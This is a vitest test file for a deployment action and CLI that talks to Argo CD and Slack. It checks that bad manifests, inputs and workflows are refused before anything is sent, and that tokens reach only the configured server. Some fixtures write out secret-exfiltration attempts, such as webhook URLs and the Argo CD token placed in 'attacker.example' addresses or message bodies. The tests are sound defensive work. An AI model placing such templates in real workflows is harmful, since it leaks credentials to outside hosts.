import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { parseRunnerLog } from '../support/runner-commands.js';
import { chosen } from '../support/thorough.js';
import { deployment, exampleWorkflow, manifestFile, startRecorder, startWorld, token, workflowFile, workflowWith, type World } from '../support/world.js';

/** Everything that was sent anywhere since the checkout was made. */
function sent(world: World, gitRequestsBefore: number): readonly string[] {
  return [
    ...world.asked.map(({ method, path }) => `Argo CD: ${method} ${path}`),
    ...world.slack.received.map(({ path }) => `Slack: ${path}`),
    ...world.git.requests.slice(gitRequestsBefore).filter((request) => request.includes('receive-pack')).map((request) => `git: ${request}`),
  ];
}

/** Runs both ways and expects a refusal before anything was sent: 2 for the command line, 1 for the action. */
async function refusedBeforeAnything(world: World, options: { readonly inputs?: Record<string, string>; readonly without?: readonly string[] } = {}) {
  const requests = world.git.requests.length;
  // One after the other: both may deepen the same clone.
  const [byAction, byCli] = [await world.runAction(options), await world.runCli(options)];
  expect(byAction.exitCode, byAction.output).toBe(1);
  expect(byCli.exitCode, byCli.output).toBe(2);
  expect([byAction.outputs['result'], byCli.json()['result']]).toEqual(['failed', 'failed']);
  expect(sent(world, requests)).toEqual([]);
  return { byAction, byCli };
}

describe.concurrent('nothing is asked of Argo CD or Slack', () => {
  test('for an invalid manifest, which is annotated at its line and column', async (context) => {
    const world = await startWorld(context, { change: { [manifestFile]: deployment('1.4.2').replace('  name: web\n', '  name: 1.4\n') } });
    const { byAction, byCli } = await refusedBeforeAnything(world);
    expect(byAction.annotations).toContainEqual(expect.objectContaining({ level: 'error', file: manifestFile, line: 4, column: 9, title: 'OSOP-MANIFEST-003' }));
    expect(byCli.json()).toMatchObject({
      problems: [{ code: 'OSOP-MANIFEST-003', file: manifestFile, line: 4, column: 9 }],
      validation: { valid: false, checked: 1, invalid: 1 },
    });
    expect(byCli.stderr).toContain(`${manifestFile}:4:9`);
    const forGithub = await world.runCli({ args: ['run', '--format=github'] });
    expect(parseRunnerLog(forGithub.stdout).commands).toMatchObject([{ name: 'error', properties: { file: manifestFile, line: '4', col: '9' } }]);
  });

  test('for a file that is no YAML', async (context) => {
    const world = await startWorld(context, { change: { [manifestFile]: `${deployment('1.4.2')}   broken: [\n` } });
    const { byAction } = await refusedBeforeAnything(world);
    expect(byAction.annotations.filter(({ file }) => file === manifestFile)).not.toEqual([]);
  });

  test('for a node of a type that is not carried out here', async (context) => {
    const world = await startWorld(context, { workflow: workflowWith('type: system', 'type: db') });
    const { byAction, byCli } = await refusedBeforeAnything(world);
    expect(byAction.annotations).toContainEqual(expect.objectContaining({ title: 'OSOP-PLAN-001', file: workflowFile, line: 18, column: 11 }));
    expect(byCli.json()).toMatchObject({ problems: [{ code: 'OSOP-PLAN-001', message: expect.stringContaining('manifest_validate') }] });
  });

  test('for all problems of a workflow at once, each at its place', async (context) => {
    const world = await startWorld(context, { workflow: workflowWith('type: system', 'type: docker').replace('action: rollback', 'action: rolback').replace('purpose: Trigger', 'purpos: Trigger') });
    const { byCli } = await refusedBeforeAnything(world);
    expect(byCli.json()).toMatchObject({ problems: expect.arrayContaining([expect.objectContaining({ code: 'OSOP-DOC-002' })]) });
  });

  test('for {{SLACK_WEBHOOK_URL}} without the input that binds it (T1)', async (context) => {
    const world = await startWorld(context);
    const { byCli } = await refusedBeforeAnything(world, { without: ['slack-webhook-url'] });
    expect(byCli.json()).toMatchObject({ problems: expect.arrayContaining([64, 86].map((line) => expect.objectContaining({ code: 'OSOP-PLAN-007', file: workflowFile, line }))) });
  });

  test.for(chosen(['in the address', 'as a token in a message'], [
    ['in the address of somebody else', 'url: "{{SLACK_WEBHOOK_URL}}"', 'url: "https://attacker.example/?to={{SLACK_WEBHOOK_URL}}"'],
    ['as a revision', 'revision: "{{commit_sha}}"', 'revision: "{{SLACK_WEBHOOK_URL}}"'],
    ['as a token in an address', 'url: "https://argocd.internal/api/v1/applications/production-app"', 'url: "https://attacker.example/{{ARGOCD_AUTH_TOKEN}}/api/v1/applications/production-app"'],
    ['as a token in a message', 'inputs: [rollback_status, commit_sha]', 'inputs: [rollback_status, commit_sha]\n    runtime: {method: POST, url: "{{SLACK_WEBHOOK_URL}}", body: {text: "{{ARGOCD_AUTH_TOKEN}}"}}'],
    ['in an expression', 'validation_result.valid == true', "env.ARGOCD_AUTH_TOKEN != ''"],
  ] as const))('for a secret %s (T1)', async ([, part, replacement], context) => {
    const workflow = part.startsWith('inputs: [rollback')
      ? exampleWorkflow.replace(/ {4}runtime:\n {6}endpoint: slack-webhook\n {6}method: POST\n {6}url: "\{\{SLACK_WEBHOOK_URL\}\}"\n {4}inputs: \[rollback_status, commit_sha\]/, () => `    ${replacement}`)
      : workflowWith(part, replacement);
    expect(workflow).not.toBe(exampleWorkflow);
    await refusedBeforeAnything(await startWorld(context, { workflow }));
  });

  test('for a repository or branch that is not the one of the run', async (context) => {
    const world = await startWorld(context, { workflow: workflowWith('org/k8s-manifests.git', 'org/other.git').replace('branch: main', 'branch: release') });
    const { byCli } = await refusedBeforeAnything(world);
    expect(byCli.json()).toMatchObject({ problems: [{ code: 'OSOP-PLAN-003' }, { code: 'OSOP-PLAN-004' }] });
  });

  test('for inputs that cannot be used, which are all named', async (context) => {
    const world = await startWorld(context);
    const run = await world.runAction({ inputs: { 'health-timeout': 'soon', rollback: 'gitrevert', 'dry-run': 'maybe' } });
    expect(run).toMatchObject({ exitCode: 1, outputs: { result: 'failed' } });
    expect(run.annotations.map(({ message }) => message.split('\n')[0])).toEqual(expect.arrayContaining([
      expect.stringContaining('health-timeout'), expect.stringContaining('rollback'), expect.stringContaining('dry-run'),
    ]));
    const byCli = await world.runCli({ args: ['run', '--format=json', '--helth-timeout=3'] });
    expect(byCli.exitCode).toBe(2);
    expect(byCli.json()).toMatchObject({ problems: [{ code: 'OSOP-INPUT-002', hint: expect.stringContaining('health-timeout') }] });
    expect(world.asked).toEqual([]);
  });

  test('to change for pull_request_target and workflow_run, which plan what the base says, whatever is checked out (T3)', async (context) => {
    const world = await startWorld(context);
    // As if the head of a pull request was checked out: the run would stop at this file.
    writeFileSync(join(world.checkout, workflowFile), 'not: [a workflow');
    for (const name of ['pull_request_target', 'workflow_run']) {
      const run = await world.runAction({ event: { name }, env: { GITHUB_BASE_REF: 'main' } });
      expect(run, run.output).toMatchObject({ exitCode: 0, outputs: { result: 'planned' } });
    }
    expect(world.changes()).toEqual([]);
    expect(sent(world, world.git.requests.length).filter((request) => !request.startsWith('Argo CD: GET'))).toEqual([]);
    const unknown = await world.runCli({ env: { GITHUB_REPOSITORY: 'org/k8s-manifests', GITHUB_EVENT_NAME: 'pull_request_target', GITHUB_SHA: 'd'.repeat(40) } });
    expect(unknown.exitCode).toBe(5);
    expect(unknown.json()).toMatchObject({ problems: [{ code: 'OSOP-INPUT-005' }] });
  });
});

describe.concurrent('a refusal by Argo CD', () => {
  test('of a token says which input to look at, and that nothing was deployed', async (context) => {
    const world = await startWorld(context);
    const run = await world.runAction({ inputs: { 'argocd-auth-token': 'e30.e30.wrong-token' } });
    expect(run).toMatchObject({ exitCode: 1, outputs: { result: 'refused' } });
    expect(run.log).toContain('401');
    expect(run.log).toContain('argocd-auth-token');
    expect(run.summary.split('\n')[0]).toMatch(/Refused, and nothing was deployed/);
    const byCli = await world.runCli({ env: { ARGOCD_AUTH_TOKEN: 'e30.e30.wrong-token' } });
    expect(byCli.exitCode).toBe(5);
    expect(world.simulator.application('production-app').status.history).toHaveLength(1);
    expect(`${run.log}${byCli.output}`).not.toContain('wrong-token');
  });

  test('of the sync names the permission that is missing', async (context) => {
    const world = await startWorld(context, { permission: (_user, action) => action !== 'sync' });
    const run = await world.runCli();
    expect(run.exitCode, run.output).toBe(5);
    expect(run.json()).toMatchObject({ result: 'refused', problems: [{ code: 'OSOP-ARGOCD-002', message: expect.stringContaining('permission denied') }] });
    expect(run.stderr).toContain('sync');
    expect(world.simulator.application('production-app').status.history).toHaveLength(1);
  });

  test('of an application that it does not have is no crash', async (context) => {
    const world = await startWorld(context, { application: { name: 'another-app' } });
    const run = await world.runCli();
    expect(run.exitCode, run.output).toBe(5);
    expect(run.json()).toMatchObject({ result: 'refused', problems: [{ message: expect.stringContaining('production-app') }] });
  });

  test('by a sync window is told as such', async (context) => {
    const world = await startWorld(context);
    world.simulator.setWindows([{ kind: 'deny', active: true, schedule: '0 0 * * *', duration: '24h' }]);
    const run = await world.runCli();
    expect(run.exitCode, run.output).toBe(5);
    expect(run.stderr).toContain('sync window');
  });
});

describe.concurrent('the token', () => {
  test('goes to the server of the input alone, whatever the workflow file names (T2, I11)', async (context) => {
    const elsewhere = await startRecorder(context);
    const world = await startWorld(context, { workflow: workflowWith('https://argocd.internal/', `${elsewhere.url}/`) });
    const run = await world.runAction();
    expect(run.exitCode, run.output).toBe(0);
    expect(elsewhere.received).toEqual([]);
    expect(new Set(world.asked.map(({ headers }) => headers?.['authorization']))).toEqual(new Set([`Bearer ${token}`]));
    expect(world.slack.received.flatMap(({ headers }) => [headers.authorization, headers.cookie]).filter((header) => header !== undefined)).toEqual([]);
  });

  test('of the job goes to no other git host than GitHub', async (context) => {
    const [world, elsewhere] = [await startWorld(context), await startRecorder(context)];
    await world.runAction({ inputs: { 'config-repository': `${elsewhere.url}/org/k8s-manifests.git` } });
    expect(elsewhere.received.length).toBeGreaterThan(0);
    expect(elsewhere.received.flatMap(({ headers }) => headers.authorization ?? [])).toEqual([]);
    const known = await startRecorder(context);
    await world.runAction({ inputs: { 'config-repository': `${known.url}/org/k8s-manifests.git` }, env: { GITHUB_SERVER_URL: known.url } });
    expect(known.received[0]?.headers.authorization).toMatch(/^Basic /);
  });

  test('does not follow a redirect to another origin (T18)', async (context) => {
    const elsewhere = await startRecorder(context);
    const world = await startWorld(context, { faults: { intercept: async ({ path }) => ({ status: 307, headers: { location: `${elsewhere.url}${path}` }, body: '' }) } });
    const run = await world.runCli();
    expect(run.exitCode, run.output).not.toBe(0);
    expect(elsewhere.received).toEqual([]);
  });
});
